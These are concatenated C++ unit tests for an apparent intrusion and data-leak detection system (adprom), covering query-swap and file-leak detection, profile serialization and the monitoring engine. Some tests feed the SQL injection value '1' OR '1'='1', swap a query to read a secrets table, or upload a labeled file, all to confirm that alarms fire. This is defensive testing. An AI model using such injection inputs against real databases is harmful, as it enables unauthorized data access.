  DetectionEngine engine(&profile);
  const auto detections = engine.MonitorTrace(AlternatingTrace(2));
  EXPECT_EQ(detections.size(), 1u);
}

TEST(DetectionEngineTest, AlarmsFiltersNormals) {
  const ApplicationProfile profile = MakeProfile();
  DetectionEngine engine(&profile);
  runtime::Trace trace = AlternatingTrace(8);
  trace.push_back(MakeEvent("a", "main", 0));
  trace.push_back(MakeEvent("a", "main", 0));
  trace.push_back(MakeEvent("a", "main", 0));
  const auto alarms = engine.Alarms(trace);
  const auto all = engine.MonitorTrace(trace);
  EXPECT_LT(alarms.size(), all.size());
  for (const Detection& d : alarms) EXPECT_TRUE(d.IsAlarm());
}

}  // namespace
}  // namespace adprom::core
