// Tests for the two §VII-mitigation extensions: query-signature recording
// (catches same-selectivity query swaps the base system misses) and
// labeled-file tracking (catches TD leaked indirectly through a file).

#include <gtest/gtest.h>

#include "attack/mutators.h"
#include "core/adprom.h"
#include "prog/program.h"

namespace adprom::core {
namespace {

// A reporting client whose query an attacker can swap for another of the
// *same selectivity* (items and secrets both have 5 rows): the call
// sequence is unchanged, only the query text differs.
constexpr const char* kSwapApp = R"__(
fn main() {
  var cmd = scan();
  while (!is_null(cmd)) {
    if (cmd == "report") {
      report();
    } else {
      print_err("bad command");
    }
    cmd = scan();
  }
}
fn report() {
  var r = db_query("SELECT label FROM items ORDER BY id");
  var n = db_ntuples(r);
  var i = 0;
  while (i < n) {
    print(db_getvalue(r, i, 0));
    i = i + 1;
  }
}
)__";

DbFactory SwapDb() {
  return [] {
    auto db = std::make_unique<db::Database>();
    db->Execute("CREATE TABLE items (id INT, label TEXT)");
    db->Execute("CREATE TABLE secrets (id INT, label TEXT)");
    for (int i = 0; i < 5; ++i) {
      db->Execute("INSERT INTO items VALUES (" + std::to_string(i) +
                  ", 'item" + std::to_string(i) + "')");
      db->Execute("INSERT INTO secrets VALUES (" + std::to_string(i) +
                  ", 'secret" + std::to_string(i) + "')");
    }
    return db;
  };
}

std::vector<TestCase> SwapCases() {
  return {{{"report"}}, {{"report", "report"}}, {{"oops", "report"}}};
}

prog::Program SwappedQueryBuild(const prog::Program& benign) {
  auto tampered = attack::ModifyStringLiteral(
      benign, "report", "SELECT label FROM items ORDER BY id",
      "SELECT label FROM secrets ORDER BY id");
  EXPECT_TRUE(tampered.ok()) << tampered.status().ToString();
  return std::move(tampered).value();
}

TEST(QuerySignatureExtensionTest, BaseSystemMissesSameSelectivitySwap) {
  auto program = prog::ParseProgram(kSwapApp);
  ASSERT_TRUE(program.ok());
  auto system = AdProm::Train(*program, SwapDb(), SwapCases());
  ASSERT_TRUE(system.ok()) << system.status().ToString();

  const prog::Program tampered = SwappedQueryBuild(*program);
  auto result = system->Monitor(tampered, SwapDb(), {{"report"}});
  ASSERT_TRUE(result.ok());
  // The data leaks (secrets printed) ...
  ASSERT_FALSE(result->io.screen.empty());
  EXPECT_EQ(result->io.screen[0], "secret0");
  // ... but the call-sequence model cannot see it: the §VII limitation.
  // (The taint labels still carry the *table name*, so the observable
  // changes only if the provenance is part of the symbol — it is not:
  // labels encode the call site, not the table.)
  EXPECT_FALSE(result->HasAlarm());
}

TEST(QuerySignatureExtensionTest, SignaturesCatchTheSwap) {
  auto program = prog::ParseProgram(kSwapApp);
  ASSERT_TRUE(program.ok());
  ProfileOptions options;
  options.use_query_signatures = true;
  auto system = AdProm::Train(*program, SwapDb(), SwapCases(), options);
  ASSERT_TRUE(system.ok()) << system.status().ToString();

  // Signature observables appear in the alphabet.
  bool has_signature_symbol = false;
  for (const std::string& symbol : system->profile().alphabet.symbols()) {
    if (symbol.rfind("db_query#", 0) == 0) has_signature_symbol = true;
  }
  EXPECT_TRUE(has_signature_symbol);

  // Benign still quiet.
  auto benign = system->Monitor(*program, SwapDb(), {{"report"}});
  ASSERT_TRUE(benign.ok());
  EXPECT_FALSE(benign->HasAlarm());

  // The swapped query yields an unseen db_query#<signature> symbol.
  const prog::Program tampered = SwappedQueryBuild(*program);
  auto result = system->Monitor(tampered, SwapDb(), {{"report"}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->HasAlarm());
}

TEST(QuerySignatureExtensionTest, BoundValueChangesStayNormal) {
  // Signatures must not flag ordinary parameter variation.
  auto program = prog::ParseProgram(R"__(
fn main() {
  var id = scan();
  var r = db_query("SELECT label FROM items WHERE id = " + to_int(id));
  if (db_ntuples(r) > 0) {
    print(db_getvalue(r, 0, 0));
  }
}
)__");
  ASSERT_TRUE(program.ok());
  ProfileOptions options;
  options.use_query_signatures = true;
  std::vector<TestCase> cases;
  for (int i = 0; i < 5; ++i) cases.push_back({{std::to_string(i)}});
  auto system = AdProm::Train(*program, SwapDb(), cases, options);
  ASSERT_TRUE(system.ok());
  // A never-trained bound value: same signature, no alarm.
  auto result = system->Monitor(*program, SwapDb(), {{"4"}});
  ASSERT_TRUE(result.ok());
  EXPECT_FALSE(result->HasAlarm());
}

// --- Labeled-file tracking ------------------------------------------------

constexpr const char* kFileApp = R"__(
fn main() {
  var cmd = scan();
  while (!is_null(cmd)) {
    if (cmd == "export") {
      export_report();
    } else if (cmd == "upload") {
      send_file("backup.example.com", scan());
    } else {
      print_err("bad command");
    }
    cmd = scan();
  }
}
fn export_report() {
  var r = db_query("SELECT label FROM items");
  var n = db_ntuples(r);
  var i = 0;
  while (i < n) {
    write_file("report.txt", db_getvalue(r, i, 0));
    i = i + 1;
  }
  write_file("notes.txt", "report generated");
  print("exported");
}
)__";

TEST(FileTrackingExtensionTest, SendingLabeledFileIsTdOutput) {
  auto program = prog::ParseProgram(kFileApp);
  ASSERT_TRUE(program.ok());
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  runtime::ProgramIo io;
  auto trace = AdProm::CollectTrace(
      *program, *cfgs, SwapDb(),
      {{"export", "upload", "report.txt"}}, &io);
  ASSERT_TRUE(trace.ok()) << trace.status().ToString();

  // report.txt is labeled with the items provenance; notes.txt is not.
  ASSERT_TRUE(io.files.count("report.txt"));
  ASSERT_TRUE(io.files.count("notes.txt"));
  EXPECT_TRUE(io.files.at("report.txt").tainted());
  EXPECT_FALSE(io.files.at("notes.txt").tainted());

  // The send_file event carries the file's provenance even though its
  // direct arguments are untainted strings.
  const runtime::CallEvent* send = nullptr;
  for (const runtime::CallEvent& event : *trace) {
    if (event.callee == "send_file") send = &event;
  }
  ASSERT_NE(send, nullptr);
  EXPECT_TRUE(send->td_output);
  ASSERT_EQ(send->source_tables.size(), 1u);
  EXPECT_EQ(send->source_tables[0], "items");
}

TEST(FileTrackingExtensionTest, SendingUnlabeledFileIsNot) {
  auto program = prog::ParseProgram(kFileApp);
  ASSERT_TRUE(program.ok());
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  auto trace = AdProm::CollectTrace(
      *program, *cfgs, SwapDb(), {{"export", "upload", "notes.txt"}});
  ASSERT_TRUE(trace.ok());
  for (const runtime::CallEvent& event : *trace) {
    if (event.callee == "send_file") {
      EXPECT_FALSE(event.td_output);
    }
  }
}

TEST(FileTrackingExtensionTest, ReadFileCarriesProvenance) {
  auto program = prog::ParseProgram(R"__(
fn main() {
  var r = db_query("SELECT label FROM items");
  write_file("dump.txt", db_getvalue(r, 0, 0));
  var back = read_file("dump.txt");
  print(back);
  print(read_file("missing.txt"));
}
)__");
  ASSERT_TRUE(program.ok());
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  auto trace = AdProm::CollectTrace(*program, *cfgs, SwapDb(), {{}});
  ASSERT_TRUE(trace.ok()) << trace.status().ToString();
  // The first print outputs data read back from a labeled file -> TD.
  int td_prints = 0;
  for (const runtime::CallEvent& event : *trace) {
    if (event.callee == "print" && event.td_output) ++td_prints;
  }
  EXPECT_EQ(td_prints, 1);
}

TEST(FileTrackingExtensionTest, IndirectFileLeakDetectedEndToEnd) {
  // Train on export-only sessions; the attacker's build adds the upload
  // of the labeled file — an unseen, TD-carrying call sequence.
  auto program = prog::ParseProgram(kFileApp);
  ASSERT_TRUE(program.ok());
  std::vector<TestCase> training = {
      {{"export"}}, {{"export", "export"}}, {{"bogus", "export"}}};
  auto system = AdProm::Train(*program, SwapDb(), training);
  ASSERT_TRUE(system.ok()) << system.status().ToString();

  auto result = system->Monitor(*program, SwapDb(),
                                {{"export", "upload", "report.txt"}});
  ASSERT_TRUE(result.ok());
  EXPECT_TRUE(result->HasAlarm());
  EXPECT_TRUE(result->ConnectedToSource());
}

}  // namespace
}  // namespace adprom::core
