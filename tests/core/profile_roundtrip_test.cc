// Round-trip property test: random valid profiles must survive
// Serialize → Deserialize → Serialize byte-identically (the %.17g doubles
// reload to the same bits, the set/map sections re-emit in the same
// order), and a reloaded profile must score a reference trace with
// exactly the same verdicts and scores as the original.

#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "core/detection_engine.h"
#include "core/profile.h"
#include "hmm/hmm_model.h"
#include "util/rng.h"
#include "util/strings.h"

namespace adprom::core {
namespace {

std::vector<std::string> SymbolNames(size_t count) {
  std::vector<std::string> names;
  for (size_t i = 0; i < count; ++i) {
    names.push_back("call_" + std::to_string(i));
  }
  return names;
}

ApplicationProfile RandomProfile(util::Rng& rng) {
  ApplicationProfile profile;
  profile.options.window_length = 2 + rng.UniformU64(8);
  profile.options.use_dd_labels = rng.Bernoulli(0.5);
  profile.options.use_query_signatures = rng.Bernoulli(0.5);
  const std::vector<std::string> names =
      SymbolNames(2 + rng.UniformU64(5));
  for (const std::string& name : names) profile.alphabet.Intern(name);
  const size_t states = 2 + rng.UniformU64(3);
  profile.model = hmm::HmmModel::Random(states, profile.alphabet.size(),
                                        rng);
  profile.threshold = -1.0 - 5.0 * rng.UniformDouble();
  profile.num_sites = 1 + rng.UniformU64(40);
  profile.num_states = states;
  for (const std::string& name : names) {
    if (rng.Bernoulli(0.8)) profile.context_pairs.insert({"main", name});
    if (rng.Bernoulli(0.3)) profile.context_pairs.insert({"helper", name});
    if (rng.Bernoulli(0.25)) {
      profile.labeled_sources[name] = {"table_a", "table_b"};
    }
  }
  return profile;
}

/// Zeroes a random subset of A's entries (keeping each row stochastic), so
/// the roundtrip exercises genuinely sparse `a-sparse` sections.
void SparsifyTransitions(ApplicationProfile* profile, util::Rng& rng) {
  util::Matrix& a = profile->model.mutable_a();
  for (size_t s = 0; s < a.rows(); ++s) {
    for (size_t t = 0; t < a.cols(); ++t) {
      if (rng.Bernoulli(0.6)) a.At(s, t) = 0.0;
    }
    a.At(s, rng.UniformU64(a.cols())) = 1.0;  // keep the row nonzero
  }
  a.NormalizeRows();
}

/// The original dense "adprom-profile v1" writer, reproduced here so the
/// backward-compat path (old stored profiles) stays covered after the
/// format moved to v2.
std::string SerializeV1(const ApplicationProfile& profile) {
  std::ostringstream out;
  out << "adprom-profile v1\n";
  out << "window_length " << profile.options.window_length << "\n";
  out << "use_dd_labels " << (profile.options.use_dd_labels ? 1 : 0) << "\n";
  out << "use_query_signatures "
      << (profile.options.use_query_signatures ? 1 : 0) << "\n";
  out << "threshold " << util::StrFormat("%.17g", profile.threshold) << "\n";
  out << "num_sites " << profile.num_sites << "\n";
  out << "num_states " << profile.num_states << "\n";
  out << "alphabet " << profile.alphabet.size() << "\n";
  for (const std::string& s : profile.alphabet.symbols()) out << s << "\n";
  out << "context_pairs " << profile.context_pairs.size() << "\n";
  for (const auto& [caller, callee] : profile.context_pairs) {
    out << caller << " " << callee << "\n";
  }
  out << "labeled_sources " << profile.labeled_sources.size() << "\n";
  for (const auto& [observable, tables] : profile.labeled_sources) {
    out << observable;
    for (const std::string& t : tables) out << " " << t;
    out << "\n";
  }
  const hmm::HmmModel& model = profile.model;
  const size_t n = model.num_states();
  const size_t m = model.num_symbols();
  out << "hmm " << n << " " << m << "\n";
  for (size_t s = 0; s < n; ++s) {
    for (size_t t = 0; t < n; ++t) {
      out << util::StrFormat("%.17g%c", model.a().At(s, t),
                             t + 1 == n ? '\n' : ' ');
    }
  }
  for (size_t s = 0; s < n; ++s) {
    for (size_t o = 0; o < m; ++o) {
      out << util::StrFormat("%.17g%c", model.b().At(s, o),
                             o + 1 == m ? '\n' : ' ');
    }
  }
  for (size_t s = 0; s < n; ++s) {
    out << util::StrFormat("%.17g%c", model.pi()[s],
                           s + 1 == n ? '\n' : ' ');
  }
  return out.str();
}

TEST(ProfileRoundtripTest, SerializeDeserializeSerializeIsByteIdentical) {
  util::Rng rng(20260806);
  for (int round = 0; round < 40; ++round) {
    ApplicationProfile original = RandomProfile(rng);
    // Half the rounds get a structurally sparse A, the shape the profile
    // constructor actually produces.
    if (round % 2 == 0) SparsifyTransitions(&original, rng);
    const std::string first = original.Serialize();
    auto reloaded = ApplicationProfile::Deserialize(first);
    ASSERT_TRUE(reloaded.ok())
        << "round " << round << ": " << reloaded.status().ToString();
    const std::string second = reloaded->Serialize();
    ASSERT_EQ(first, second) << "round " << round;

    // The structured fields survive too (byte identity already implies
    // it; spelled out for diagnosability).
    EXPECT_EQ(reloaded->options.window_length,
              original.options.window_length);
    EXPECT_EQ(reloaded->options.use_dd_labels,
              original.options.use_dd_labels);
    EXPECT_EQ(reloaded->threshold, original.threshold);
    EXPECT_EQ(reloaded->alphabet.size(), original.alphabet.size());
    EXPECT_EQ(reloaded->context_pairs, original.context_pairs);
    EXPECT_EQ(reloaded->labeled_sources, original.labeled_sources);
  }
}

TEST(ProfileRoundtripTest, ReloadedProfileScoresIdentically) {
  util::Rng rng(99);
  for (int round = 0; round < 20; ++round) {
    ApplicationProfile original = RandomProfile(rng);
    // Plain call-name observables so the reference trace below maps onto
    // the random alphabet.
    original.options.use_dd_labels = false;
    auto reloaded = ApplicationProfile::Deserialize(original.Serialize());
    ASSERT_TRUE(reloaded.ok()) << reloaded.status().ToString();
    reloaded->options.use_dd_labels = false;

    // A reference trace mixing known symbols, unknown symbols, and
    // out-of-context callers, so every verdict path is compared.
    const std::vector<std::string> names =
        SymbolNames(original.alphabet.size() - 1);
    runtime::Trace trace;
    for (int i = 0; i < 60; ++i) {
      runtime::CallEvent event;
      event.callee = rng.Bernoulli(0.9)
                         ? names[rng.UniformU64(names.size())]
                         : "mystery_call";
      event.caller = rng.Bernoulli(0.9) ? "main" : "rogue";
      event.block_id = i;
      trace.push_back(std::move(event));
    }

    const DetectionEngine original_engine(&original);
    const DetectionEngine reloaded_engine(&*reloaded);
    const auto expected = original_engine.MonitorTrace(trace);
    const auto actual = reloaded_engine.MonitorTrace(trace);
    ASSERT_EQ(expected.size(), actual.size()) << "round " << round;
    for (size_t i = 0; i < expected.size(); ++i) {
      EXPECT_EQ(expected[i].flag, actual[i].flag) << round << " " << i;
      // Exact: the HMM parameters reloaded bit for bit.
      EXPECT_EQ(expected[i].score, actual[i].score) << round << " " << i;
      EXPECT_EQ(expected[i].detail, actual[i].detail) << round << " " << i;
    }
  }
}

TEST(ProfileRoundtripTest, OldDenseV1FormatStillLoads) {
  util::Rng rng(4242);
  for (int round = 0; round < 20; ++round) {
    ApplicationProfile original = RandomProfile(rng);
    if (round % 2 == 0) SparsifyTransitions(&original, rng);
    const std::string v1_text = SerializeV1(original);
    auto reloaded = ApplicationProfile::Deserialize(v1_text);
    ASSERT_TRUE(reloaded.ok())
        << "round " << round << ": " << reloaded.status().ToString();
    // A v1 profile re-serializes in the current v2 format, byte-equal to
    // serializing the original directly (the parameters reload exactly,
    // including A's zero pattern).
    EXPECT_EQ(reloaded->Serialize(), original.Serialize())
        << "round " << round;
  }
}

TEST(ProfileRoundtripTest, SparseProfileScoresIdenticallyAfterReload) {
  util::Rng rng(555);
  for (int round = 0; round < 10; ++round) {
    ApplicationProfile original = RandomProfile(rng);
    original.options.use_dd_labels = false;
    SparsifyTransitions(&original, rng);
    // Structural smoothing keeps windows scoreable despite the zeros.
    original.model.SmoothEmissions(1e-6);
    auto reloaded = ApplicationProfile::Deserialize(original.Serialize());
    ASSERT_TRUE(reloaded.ok()) << reloaded.status().ToString();
    reloaded->options.use_dd_labels = false;

    const std::vector<std::string> names =
        SymbolNames(original.alphabet.size() - 1);
    runtime::Trace trace;
    for (int i = 0; i < 40; ++i) {
      runtime::CallEvent event;
      event.callee = names[rng.UniformU64(names.size())];
      event.caller = "main";
      event.block_id = i;
      trace.push_back(std::move(event));
    }

    const DetectionEngine original_engine(&original);
    const DetectionEngine reloaded_engine(&*reloaded);
    const auto expected = original_engine.MonitorTrace(trace);
    const auto actual = reloaded_engine.MonitorTrace(trace);
    ASSERT_EQ(expected.size(), actual.size()) << "round " << round;
    for (size_t i = 0; i < expected.size(); ++i) {
      EXPECT_EQ(expected[i].flag, actual[i].flag) << round << " " << i;
      EXPECT_EQ(expected[i].score, actual[i].score) << round << " " << i;
    }
  }
}

}  // namespace
}  // namespace adprom::core
