// Round-trip property test: random valid profiles must survive
// Serialize → Deserialize → Serialize byte-identically (the %.17g doubles
// reload to the same bits, the set/map sections re-emit in the same
// order), and a reloaded profile must score a reference trace with
// exactly the same verdicts and scores as the original.

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "core/detection_engine.h"
#include "core/profile.h"
#include "hmm/hmm_model.h"
#include "util/rng.h"

namespace adprom::core {
namespace {

std::vector<std::string> SymbolNames(size_t count) {
  std::vector<std::string> names;
  for (size_t i = 0; i < count; ++i) {
    names.push_back("call_" + std::to_string(i));
  }
  return names;
}

ApplicationProfile RandomProfile(util::Rng& rng) {
  ApplicationProfile profile;
  profile.options.window_length = 2 + rng.UniformU64(8);
  profile.options.use_dd_labels = rng.Bernoulli(0.5);
  profile.options.use_query_signatures = rng.Bernoulli(0.5);
  const std::vector<std::string> names =
      SymbolNames(2 + rng.UniformU64(5));
  for (const std::string& name : names) profile.alphabet.Intern(name);
  const size_t states = 2 + rng.UniformU64(3);
  profile.model = hmm::HmmModel::Random(states, profile.alphabet.size(),
                                        rng);
  profile.threshold = -1.0 - 5.0 * rng.UniformDouble();
  profile.num_sites = 1 + rng.UniformU64(40);
  profile.num_states = states;
  for (const std::string& name : names) {
    if (rng.Bernoulli(0.8)) profile.context_pairs.insert({"main", name});
    if (rng.Bernoulli(0.3)) profile.context_pairs.insert({"helper", name});
    if (rng.Bernoulli(0.25)) {
      profile.labeled_sources[name] = {"table_a", "table_b"};
    }
  }
  return profile;
}

TEST(ProfileRoundtripTest, SerializeDeserializeSerializeIsByteIdentical) {
  util::Rng rng(20260806);
  for (int round = 0; round < 40; ++round) {
    const ApplicationProfile original = RandomProfile(rng);
    const std::string first = original.Serialize();
    auto reloaded = ApplicationProfile::Deserialize(first);
    ASSERT_TRUE(reloaded.ok())
        << "round " << round << ": " << reloaded.status().ToString();
    const std::string second = reloaded->Serialize();
    ASSERT_EQ(first, second) << "round " << round;

    // The structured fields survive too (byte identity already implies
    // it; spelled out for diagnosability).
    EXPECT_EQ(reloaded->options.window_length,
              original.options.window_length);
    EXPECT_EQ(reloaded->options.use_dd_labels,
              original.options.use_dd_labels);
    EXPECT_EQ(reloaded->threshold, original.threshold);
    EXPECT_EQ(reloaded->alphabet.size(), original.alphabet.size());
    EXPECT_EQ(reloaded->context_pairs, original.context_pairs);
    EXPECT_EQ(reloaded->labeled_sources, original.labeled_sources);
  }
}

TEST(ProfileRoundtripTest, ReloadedProfileScoresIdentically) {
  util::Rng rng(99);
  for (int round = 0; round < 20; ++round) {
    ApplicationProfile original = RandomProfile(rng);
    // Plain call-name observables so the reference trace below maps onto
    // the random alphabet.
    original.options.use_dd_labels = false;
    auto reloaded = ApplicationProfile::Deserialize(original.Serialize());
    ASSERT_TRUE(reloaded.ok()) << reloaded.status().ToString();
    reloaded->options.use_dd_labels = false;

    // A reference trace mixing known symbols, unknown symbols, and
    // out-of-context callers, so every verdict path is compared.
    const std::vector<std::string> names =
        SymbolNames(original.alphabet.size() - 1);
    runtime::Trace trace;
    for (int i = 0; i < 60; ++i) {
      runtime::CallEvent event;
      event.callee = rng.Bernoulli(0.9)
                         ? names[rng.UniformU64(names.size())]
                         : "mystery_call";
      event.caller = rng.Bernoulli(0.9) ? "main" : "rogue";
      event.block_id = i;
      trace.push_back(std::move(event));
    }

    const DetectionEngine original_engine(&original);
    const DetectionEngine reloaded_engine(&*reloaded);
    const auto expected = original_engine.MonitorTrace(trace);
    const auto actual = reloaded_engine.MonitorTrace(trace);
    ASSERT_EQ(expected.size(), actual.size()) << "round " << round;
    for (size_t i = 0; i < expected.size(); ++i) {
      EXPECT_EQ(expected[i].flag, actual[i].flag) << round << " " << i;
      // Exact: the HMM parameters reloaded bit for bit.
      EXPECT_EQ(expected[i].score, actual[i].score) << round << " " << i;
      EXPECT_EQ(expected[i].detail, actual[i].detail) << round << " " << i;
    }
  }
}

}  // namespace
}  // namespace adprom::core
