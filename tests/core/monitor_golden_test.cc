// Golden-equality test for the high-throughput detection path: the
// encode-once / workspace-reuse MonitorTrace (and the batch MonitorTraces)
// must emit exactly the same Detection flags, scores, details, and source
// tables as the seed per-window implementation, reproduced here verbatim
// as the reference. Runs on the shipped samples/inventory corpus,
// including a tautology-injection run that raises DataLeak alarms.

#include <gtest/gtest.h>

#include <fstream>
#include <memory>
#include <set>
#include <sstream>

#include "core/adprom.h"
#include "core/detection_engine.h"
#include "hmm/inference.h"
#include "util/strings.h"
#include "util/thread_pool.h"

namespace adprom::core {
namespace {

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

std::string ReadSample(const std::string& name) {
  const std::string path =
      std::string(ADPROM_SOURCE_DIR) + "/samples/inventory/" + name;
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << "cannot open " << path;
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

DbFactory SampleDbFactory() {
  auto statements = std::make_shared<std::vector<std::string>>();
  for (const std::string& line : util::Split(ReadSample("seed.sql"), '\n')) {
    const std::string_view trimmed = util::Trim(line);
    if (trimmed.empty() || trimmed[0] == '#') continue;
    statements->emplace_back(trimmed);
  }
  return [statements]() {
    auto database = std::make_unique<db::Database>();
    for (const std::string& sql : *statements) {
      (void)database->Execute(sql);
    }
    return database;
  };
}

std::vector<TestCase> SampleCases() {
  std::vector<TestCase> cases;
  for (const std::string& line : util::Split(ReadSample("cases.txt"), '\n')) {
    const std::string_view trimmed = util::Trim(line);
    if (trimmed.empty() || trimmed[0] == '#') continue;
    cases.push_back({util::SplitWhitespace(trimmed)});
  }
  return cases;
}

/// The seed (pre-refactor) Detection Engine window evaluation, kept as the
/// behavioral reference: re-encodes every window and allocates fresh
/// forward buffers per score.
Detection SeedEvaluateWindow(const ApplicationProfile& profile,
                             std::span<const runtime::CallEvent> window,
                             size_t window_start) {
  Detection detection;
  detection.window_start = window_start;

  std::set<std::string> sources;
  bool has_td_output = false;
  for (const runtime::CallEvent& event : window) {
    if (!profile.options.use_dd_labels) break;
    if (event.td_output) {
      has_td_output = true;
      sources.insert(event.source_tables.begin(), event.source_tables.end());
      auto it = profile.labeled_sources.find(event.Observable());
      if (it != profile.labeled_sources.end()) {
        sources.insert(it->second.begin(), it->second.end());
      }
    }
  }

  for (const runtime::CallEvent& event : window) {
    if (profile.context_pairs.count({event.caller, event.callee}) == 0) {
      detection.flag = DetectionFlag::kOutOfContext;
      detection.detail = event.callee + " called from " + event.caller;
      break;
    }
  }

  const hmm::ObservationSeq seq = profile.Encode(window);
  auto score = hmm::PerSymbolLogLikelihood(profile.model, seq);
  detection.score = score.ok() ? *score : -1e9;

  for (int symbol : seq) {
    if (symbol == profile.alphabet.unk_id()) {
      detection.score = -1e9;
      if (detection.detail.empty()) detection.detail = "unknown call symbol";
      break;
    }
  }

  if (detection.flag != DetectionFlag::kOutOfContext) {
    if (detection.score < profile.threshold) {
      detection.flag = has_td_output ? DetectionFlag::kDataLeak
                                     : DetectionFlag::kAnomalous;
    } else {
      detection.flag = DetectionFlag::kNormal;
    }
  }
  if (detection.IsAlarm() && has_td_output) {
    detection.source_tables.assign(sources.begin(), sources.end());
  }
  return detection;
}

std::vector<Detection> SeedMonitorTrace(const ApplicationProfile& profile,
                                        const runtime::Trace& trace) {
  std::vector<Detection> out;
  const auto windows = SlidingWindows(trace, profile.options.window_length);
  out.reserve(windows.size());
  for (size_t i = 0; i < windows.size(); ++i) {
    out.push_back(SeedEvaluateWindow(profile, windows[i], i));
  }
  return out;
}

void ExpectSameDetections(const std::vector<Detection>& expected,
                          const std::vector<Detection>& actual,
                          const std::string& label) {
  ASSERT_EQ(expected.size(), actual.size()) << label;
  for (size_t i = 0; i < expected.size(); ++i) {
    const Detection& e = expected[i];
    const Detection& a = actual[i];
    EXPECT_EQ(e.flag, a.flag) << label << " window " << i;
    EXPECT_EQ(e.score, a.score) << label << " window " << i;
    EXPECT_EQ(e.window_start, a.window_start) << label << " window " << i;
    EXPECT_EQ(e.source_tables, a.source_tables) << label << " window " << i;
    EXPECT_EQ(e.detail, a.detail) << label << " window " << i;
  }
}

class MonitorGoldenTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto program = prog::ParseProgram(ReadSample("app.mini"));
    ASSERT_TRUE(program.ok()) << program.status().ToString();
    program_ = new prog::Program(std::move(program).value());
    auto system = AdProm::Train(*program_, SampleDbFactory(), SampleCases());
    ASSERT_TRUE(system.ok()) << system.status().ToString();
    system_ = new AdProm(std::move(system).value());
  }

  static void TearDownTestSuite() {
    delete system_;
    delete program_;
    system_ = nullptr;
    program_ = nullptr;
  }

  /// Collects the trace of one (possibly adversarial) input feed.
  runtime::Trace Collect(const std::vector<std::string>& inputs) {
    auto cfgs = prog::BuildAllCfgs(*program_);
    EXPECT_TRUE(cfgs.ok());
    auto trace = AdProm::CollectTrace(*program_, *cfgs, SampleDbFactory(),
                                      {inputs});
    EXPECT_TRUE(trace.ok()) << trace.status().ToString();
    return std::move(trace).value();
  }

  static prog::Program* program_;
  static AdProm* system_;
};

prog::Program* MonitorGoldenTest::program_ = nullptr;
AdProm* MonitorGoldenTest::system_ = nullptr;

TEST_F(MonitorGoldenTest, NormalTrafficMatchesSeedPath) {
  const DetectionEngine engine(&system_->profile());
  for (size_t i = 0; i < SampleCases().size(); ++i) {
    const runtime::Trace trace = Collect(SampleCases()[i].inputs);
    ExpectSameDetections(SeedMonitorTrace(system_->profile(), trace),
                         engine.MonitorTrace(trace),
                         "case " + std::to_string(i));
  }
}

TEST_F(MonitorGoldenTest, InjectionRunMatchesSeedPathAndAlarms) {
  const DetectionEngine engine(&system_->profile());
  const runtime::Trace trace = Collect({"find", "1' OR '1'='1"});
  const auto expected = SeedMonitorTrace(system_->profile(), trace);
  const auto actual = engine.MonitorTrace(trace);
  ExpectSameDetections(expected, actual, "injection");
  // The tautology injection must still be caught, with provenance.
  bool leak = false;
  for (const Detection& d : actual) {
    if (d.flag == DetectionFlag::kDataLeak && !d.source_tables.empty()) {
      leak = true;
    }
  }
  EXPECT_TRUE(leak) << "injection run raised no DataLeak with sources";
}

TEST_F(MonitorGoldenTest, BatchMonitorMatchesPerTraceSerialAndParallel) {
  const DetectionEngine engine(&system_->profile());
  std::vector<runtime::Trace> traces;
  for (const TestCase& test_case : SampleCases()) {
    traces.push_back(Collect(test_case.inputs));
  }
  traces.push_back(Collect({"find", "1' OR '1'='1"}));

  const auto serial = engine.MonitorTraces(traces);
  util::ThreadPool pool(4);
  const auto parallel = engine.MonitorTraces(traces, &pool);
  ASSERT_EQ(serial.size(), traces.size());
  ASSERT_EQ(parallel.size(), traces.size());
  for (size_t i = 0; i < traces.size(); ++i) {
    const auto expected = engine.MonitorTrace(traces[i]);
    ExpectSameDetections(expected, serial[i],
                         "serial batch trace " + std::to_string(i));
    ExpectSameDetections(expected, parallel[i],
                         "parallel batch trace " + std::to_string(i));
  }
}

}  // namespace
}  // namespace adprom::core
