#include "runtime/interpreter.h"

#include <gtest/gtest.h>

#include "prog/cfg.h"
#include "prog/program.h"
#include "runtime/collector.h"

namespace adprom::runtime {
namespace {

struct RunResult {
  ProgramIo io;
  Trace trace;
  util::Status status;
};

RunResult RunApp(const std::string& source,
              std::vector<std::string> inputs = {},
              db::Database* database = nullptr) {
  RunResult out;
  auto program = prog::ParseProgram(source);
  if (!program.ok()) {
    out.status = program.status();
    return out;
  }
  auto cfgs = prog::BuildAllCfgs(*program);
  if (!cfgs.ok()) {
    out.status = cfgs.status();
    return out;
  }
  Interpreter interpreter(*program, *cfgs, database);
  LightCollector collector;
  interpreter.set_collector(&collector);
  auto result = interpreter.Run(std::move(inputs));
  out.status = result.ok() ? util::Status::Ok() : result.status();
  out.io = interpreter.io();
  out.trace = collector.TakeTrace();
  return out;
}

std::unique_ptr<db::Database> MakeItemsDb() {
  auto database = std::make_unique<db::Database>();
  EXPECT_TRUE(
      database->Execute("CREATE TABLE items (id INT, name TEXT)").ok());
  EXPECT_TRUE(database->Execute("INSERT INTO items VALUES (1, 'ring')").ok());
  EXPECT_TRUE(database->Execute("INSERT INTO items VALUES (2, 'watch')").ok());
  EXPECT_TRUE(database->Execute("INSERT INTO items VALUES (3, 'coin')").ok());
  return database;
}

TEST(InterpreterTest, ArithmeticAndPrint) {
  const RunResult r = RunApp(R"(
fn main() {
  var x = 2 + 3 * 4;
  print(x);
  print(10 / 3, 10 % 3);
  print(2.5 + 1);
}
)");
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  ASSERT_EQ(r.io.screen.size(), 3u);
  EXPECT_EQ(r.io.screen[0], "14");
  EXPECT_EQ(r.io.screen[1], "3 1");
  EXPECT_EQ(r.io.screen[2], "3.5");
}

TEST(InterpreterTest, StringConcatenation) {
  const RunResult r = RunApp(R"(
fn main() {
  var name = "world";
  print("hello " + name + "!");
  print("n=" + 42);
}
)");
  ASSERT_TRUE(r.status.ok());
